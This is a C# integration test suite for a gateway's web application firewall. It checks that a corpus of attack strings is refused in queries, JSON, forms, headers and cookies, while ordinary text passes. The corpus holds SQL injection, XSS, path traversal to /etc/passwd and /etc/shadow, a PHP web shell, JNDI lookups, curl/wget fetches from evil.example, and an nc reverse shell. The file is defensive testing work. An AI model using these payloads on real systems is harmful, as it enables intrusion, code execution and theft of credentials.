using System.Text.Json;
using Gateway.IntegrationTests.Support;

namespace Gateway.IntegrationTests.Waf;

/// <summary>Attacks are refused and ordinary traffic passes, at the lowest paranoia level and in the places that APIs have.</summary>
public sealed class WafCorpusTests
{
    private static readonly string[] Attacks =
    [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "1; DROP TABLE users--",
        "' OR 1=1#",
        "1 AND SLEEP(5)",
        "-1' UNION ALL SELECT NULL,NULL,version()--",
        "'; EXEC xp_cmdshell('dir')--",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
        "admin'--",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(document.domain)",
        "<iframe src=javascript:alert(1)>",
        "\"><body onload=alert(1)>",
        "<a href=\"javascript:eval(name)\">x</a>",
        "; cat /etc/passwd",
        "| /bin/sh -c id",
        "$(curl http://evil.example/x.sh)",
        "`wget http://evil.example/x`",
        "() { :;}; /bin/bash -c \"id\"",
        "& ping -c 10 127.0.0.1 &",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "<?php system($_GET['c']); ?>",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/a}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "require('child_process').exec('id')",
        "http://127.0.0.1/latest?cmd=;ls+-la;id",
        "O:8:\"stdClass\":1:{s:3:\"foo\";s:3:\"bar\";}",
    ];

    private static readonly string[] Ordinary =
    [
        "Sean O'Brien",
        "a plain sentence, with a comma.",
        "Select a size and drop it into the basket",
        "union of workers and employers",
        "rock & roll",
        "price < 100 and size > 3",
        "C++ and C# for beginners",
        "jane.doe@example.com",
        "+49 (30) 1234567",
        "2026-01-31T12:34:56+01:00",
        "550e8400-e29b-41d4-a716-446655440000",
        "50% off!",
        "Straße 12, 10115 Berlin",
        "日本語の文章",
        "naïve café déjà vu",
        "https://www.example.com/products/42?ref=mail",
        "#sale #summer",
        "1,234.56 EUR",
        "What's new? It's here!",
        "true",
        "-273.15",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "line one\nline two\n\nline four",
        "[1] see the notes (page 7)",
        "Version 2.10.4-beta.3",
        "The quick brown fox jumps over the lazy dog.",
        "Order now; we ship on Monday.",
        "user_name=first.last",
        "a/b testing: 60/40",
    ];

    [Theory]
    [InlineData(WireProtocol.Http1)]
    [InlineData(WireProtocol.Http2)]
    public async Task Attacks_InQueryJsonAndForm_AreRefusedAndNeverForwarded(WireProtocol protocol)
    {
        await using var bench = await WafBench.StartAsync();
        await using var client = await bench.ConnectAsync(protocol);
        var passed = new List<string>();
        var refused = 0;
        foreach (var attack in Attacks)
        {
            WireAnswer[] answers =
            [
                await client.GetAsync("/search?q=" + Uri.EscapeDataString(attack)),
                await client.PostAsync("/notes", JsonSerializer.SerializeToUtf8Bytes(new { items = new[] { new { text = attack } } }), ("Content-Type", "application/json")),
                await client.PostAsync("/form", WafBench.Utf8("a=1&text=" + Uri.EscapeDataString(attack)), ("Content-Type", "application/x-www-form-urlencoded")),
            ];
            foreach (var answer in answers)
            {
                if (answer.Status == 200) passed.Add(attack);
                else bench.Refused(answer, 403, "anomaly-score", attack);
                refused += answer.Status == 200 ? 0 : 1;
            }
        }

        Assert.True(passed.Count == 0, string.Join('\n', passed));
        Assert.Equal(3 * 36, refused);
        Assert.Empty(bench.Backend.Requests);
    }

    [Theory]
    [InlineData(WireProtocol.Http1)]
    [InlineData(WireProtocol.Http2)]
    public async Task OrdinaryTraffic_InQueryJsonAndForm_PassesAsItCame(WireProtocol protocol)
    {
        await using var bench = await WafBench.StartAsync();
        await using var client = await bench.ConnectAsync(protocol);
        var refused = new List<string>();
        var sent = 0;
        foreach (var text in Ordinary)
        {
            var json = JsonSerializer.SerializeToUtf8Bytes(new { id = 7, items = new[] { new { text, done = false } } });
            WireAnswer[] answers =
            [
                await client.GetAsync("/search?q=" + Uri.EscapeDataString(text) + "&page=2", ("User-Agent", "app/1.0"), ("Accept", "application/json")),
                await client.SendAsync("PUT", "/notes/7", [("Content-Type", "application/json; charset=utf-8")], json),
                await client.PostAsync("/form", WafBench.Utf8("a=1&text=" + Uri.EscapeDataString(text)), ("Content-Type", "application/x-www-form-urlencoded")),
            ];
            sent += answers.Length;
            if (answers.Any(static a => a.Status != 200)) refused.Add($"{text}: {string.Join(' ', answers.Select(static a => a.Status))}");
            Assert.Equal(json, (await bench.Backend.WaitForRequestsAsync(sent))[sent - 2].Body.ToArray());
        }

        foreach (var method in (string[])["DELETE", "PATCH", "HEAD", "OPTIONS"])
            if ((await client.SendAsync(method, "/notes/7", [("Content-Type", "application/merge-patch+json")], method == "PATCH" ? "{\"a\":null}"u8.ToArray() : null)).Status != 200) refused.Add(method);
        Assert.True(refused.Count == 0, string.Join('\n', refused) + "\n" + string.Join('\n', bench.Gateway.Events.All.Where(static e => e.Facts is not null).Select(static e => WafBench.Facts(e).ToString())));
        Assert.Equal(3 * 30, sent);
    }

    [Fact]
    public async Task Attacks_InHeadersCookiesAndNames_AreRefused()
    {
        await using var bench = await WafBench.StartAsync();
        await using var client = await bench.ConnectAsync();
        bench.Refused(await client.GetAsync("/", ("User-Agent", "java.lang.Runtime")), 403, "anomaly-score");
        bench.Refused(await client.GetAsync("/", ("User-Agent", "sqlmap/1.5")), 403, "anomaly-score");
        bench.Refused(await client.GetAsync("/", ("Cookie", "a=1; id=1' UNION SELECT password FROM users--")), 403, "anomaly-score");
        bench.Refused(await client.GetAsync("/", ("Referer", "https://a.example/?x=<script>alert(1)</script>")), 403, "anomaly-score");
        bench.Refused(await client.GetAsync("/?%3Cscript%3Ealert(1)%3C/script%3E=1"), 403, "anomaly-score");
        bench.Refused(await client.PostAsync("/", "{\"a' OR 1=1 --\":1}"u8.ToArray(), ("Content-Type", "application/json")), 403, "anomaly-score");
    }
}
